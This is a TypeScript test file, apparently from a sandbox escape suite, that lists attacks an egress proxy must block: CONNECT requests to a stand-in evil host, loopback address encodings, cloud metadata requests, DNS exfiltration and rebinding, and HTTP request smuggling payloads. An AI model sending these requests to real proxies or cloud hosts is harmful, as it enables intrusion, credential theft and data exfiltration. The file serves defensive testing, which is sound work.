/**
 * Ways through the proxy of a task that may reach one host. Each sends its bytes to the proxy's socket by itself, as an attacker does who does not care for Node's
 * clients. Without the sandbox the socket belongs to a proxy that lets everything through, so that every attack can succeed.
 */
import { once } from 'node:events';
import { mkdtempSync, rmSync } from 'node:fs';
import { connect, createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { EscapeCase, Target } from '../escape-case.ts';
import { tcpServer } from '../targets.ts';

const listed = 'api.example.com';
const metadata = '169.254.169.254';

/** Answers of the name server under the attacker's control; each question takes the next. None of them leaves this machine. */
type Answers = readonly (readonly string[])[];

interface World {
  answers?: Answers;
  /** Count as hit when a name was asked for; for attacks that need no connection. */
  hitByName?: boolean;
  /** The task declares no egress at all. */
  undeclared?: boolean;
}

/** A server on loopback that the attack is after, and the proxy without a wall that would lead there. */
async function behindProxy({ answers = [['127.0.0.1']], hitByName = false, undeclared = false }: World): Promise<Target> {
  const server = await tcpServer('127.0.0.1');
  const port = Number(server.inputs['port']);
  const folder = mkdtempSync(join(tmpdir(), 'mc-proxy-'));
  const proxy = join(folder, 'proxy.sock');
  let names = 0;
  const open = createServer((client) => {
    client
      .on('error', () => undefined)
      .once('data', () => {
        names += 1;
        connect(port, '127.0.0.1')
          .on('error', () => undefined)
          .once('connect', () => client.end('HTTP/1.1 200 OK\r\n\r\n'));
      });
  });
  open.listen(proxy);
  await once(open, 'listening');
  const resolve = (): Promise<string[]> => {
    names += 1;
    return Promise.resolve([...(answers[Math.min(names, answers.length) - 1] ?? [])]);
  };
  const allow = [
    { host: listed, ports: [port] },
    { host: metadata, ports: [80] },
  ];
  return {
    inputs: { proxy, port },
    isHit: (report) => (hitByName && names > 0) || (server.isHit?.(report) ?? false),
    dispose: async () => {
      open.close();
      await server.dispose?.();
      rmSync(folder, { recursive: true, force: true });
    },
    ...(undeclared ? {} : { egress: { allow, resolver: { resolve } } }),
  };
}

const toProxy = "const socket = await connected(net.connect(inputs.confined ? '/mc/egress/proxy.sock' : inputs.proxy));";

/** Sends what the expression gives, where `port` is that of the server, and has reached when the proxy says that it is connected. */
const sends = (expression: string): string =>
  `const { port } = inputs; ${toProxy} socket.write(${expression}); const [answer] = await once(socket, 'data'); socket.destroy(); if (!/^HTTP\\/1.1 2/.test(answer)) throw new Error(String(answer));`;

const connectTo = (target: string, more = ''): string => `\`CONNECT ${target} HTTP/1.1\\r\\nHost: ${target}\\r\\n${more}\\r\\n\``;

const notListed = /403 [\s\S]*X-Mc-Egress: not-listed/i;
const privateAddress = /403 [\s\S]*X-Mc-Egress: private-address/i;
const malformed = /400 [\s\S]*X-Mc-Egress: malformed/i;

type Attack = readonly [group: string, name: string, code: string, evidence: RegExp, world?: World];

const attacks: readonly Attack[] = [
  ['egress', 'asks the proxy for another host', sends(connectTo('evil.example.com:${port}')), notListed],
  ['egress', 'asks the proxy for another port', sends(connectTo(`${listed}:22`)), notListed],
  ['egress', 'asks the proxy for a host below the listed one', sends(connectTo(`c0ffee.${listed}:\${port}`)), notListed],
  ['egress', 'asks the proxy for this machine', sends(connectTo('127.0.0.1:${port}')), notListed],
  ['egress', 'asks the proxy for this machine over IPv6', sends(connectTo('[::1]:${port}')), notListed],
  ['egress', 'asks the proxy for this machine as IPv4 in IPv6', sends(connectTo('[::ffff:127.0.0.1]:${port}')), notListed],
  ['egress', 'asks the proxy for this machine as one number', sends(connectTo('2130706433:${port}')), malformed],
  ['egress', 'asks the proxy for this machine as a short address', sends(connectTo('127.1:${port}')), malformed],
  ['egress', 'asks the proxy for the listed host with a dot at its end', sends(connectTo(`${listed}.:\${port}`)), malformed],
  ['SMTP', 'mails through the proxy', sends(connectTo(`${listed}:25`)), notListed],
  ['IMDS', 'asks for a metadata service that the manifest lists', sends(connectTo(`${metadata}:80`)), privateAddress],
  [
    'IMDS',
    'asks for a metadata service by plain HTTP',
    sends(`\`GET http://${metadata}/latest/meta-data/ HTTP/1.1\\r\\nHost: ${metadata}\\r\\n\\r\\n\``),
    privateAddress,
  ],
  [
    'DNS exfiltration',
    'has the proxy ask for a name that carries the secret',
    sends(connectTo('c0ffee.exfiltration.example.com:${port}')),
    notListed,
    { hitByName: true },
  ],
  ['DNS rebinding', 'has the listed name stand for this machine', sends(connectTo(`${listed}:\${port}`)), privateAddress],
  [
    'DNS rebinding',
    'hides this machine among public addresses',
    sends(connectTo(`${listed}:\${port}`)),
    privateAddress,
    { answers: [['8.8.8.8', '127.0.0.1']] },
  ],
  [
    'DNS rebinding',
    'has the listed name stand for this machine in IPv6',
    sends(connectTo(`${listed}:\${port}`)),
    privateAddress,
    { answers: [['::ffff:127.0.0.1']] },
  ],
  [
    'DNS rebinding',
    'has the listed name stand for this machine through NAT64',
    sends(connectTo(`${listed}:\${port}`)),
    privateAddress,
    { answers: [['64:ff9b::7f00:1']] },
  ],
  [
    'proxy smuggling',
    'names another host in the Host header',
    sends(`\`CONNECT ${listed}:\${port} HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n\``),
    malformed,
  ],
  ['proxy smuggling', 'sends two Host headers', sends(connectTo(`${listed}:\${port}`, 'Host: evil.example.com\\r\\n')), malformed],
  ['proxy smuggling', 'sends a CONNECT with a body', sends(connectTo(`${listed}:\${port}`, 'Content-Length: 5\\r\\n')), malformed],
  [
    'proxy smuggling',
    'sends two lengths that disagree',
    sends(
      `\`POST http://${listed}:\${port}/ HTTP/1.1\\r\\nHost: ${listed}:\${port}\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n\``,
    ),
    malformed,
  ],
  ['proxy smuggling', 'puts credentials before the host', sends(connectTo(`${listed}@127.0.0.1:\${port}`)), malformed],
  ['proxy smuggling', 'cuts the target with a null byte', sends(connectTo(`${listed}\\0.evil.example.com:\${port}`)), malformed],
  [
    'proxy smuggling',
    'breaks lines with a bare line feed',
    sends(`\`CONNECT ${listed}:\${port} HTTP/1.1\\nHost: ${listed}:\${port}\\n\\n\``),
    malformed,
  ],
  [
    'proxy smuggling',
    'asks for TLS without a tunnel',
    sends(`\`GET https://${listed}:\${port}/ HTTP/1.1\\r\\nHost: ${listed}:\${port}\\r\\n\\r\\n\``),
    malformed,
  ],
  ['oversized headers', 'sends 100 KB of headers', sends(connectTo(`${listed}:\${port}`, "X-A: ${'a'.repeat(100_000)}\\r\\n")), malformed],
  [
    'egress',
    'knocks at the proxy of a task that declares no egress',
    sends(connectTo(`${listed}:\${port}`)),
    /^ENOENT/,
    { undeclared: true },
  ],
];

const cases = attacks.map(([group, name, code, evidence, world = {}]): EscapeCase => ({
  group,
  name,
  from: 'node',
  code,
  stoppedBy: 'egress proxy',
  evidence,
  target: () => behindProxy(world),
}));

export default cases;
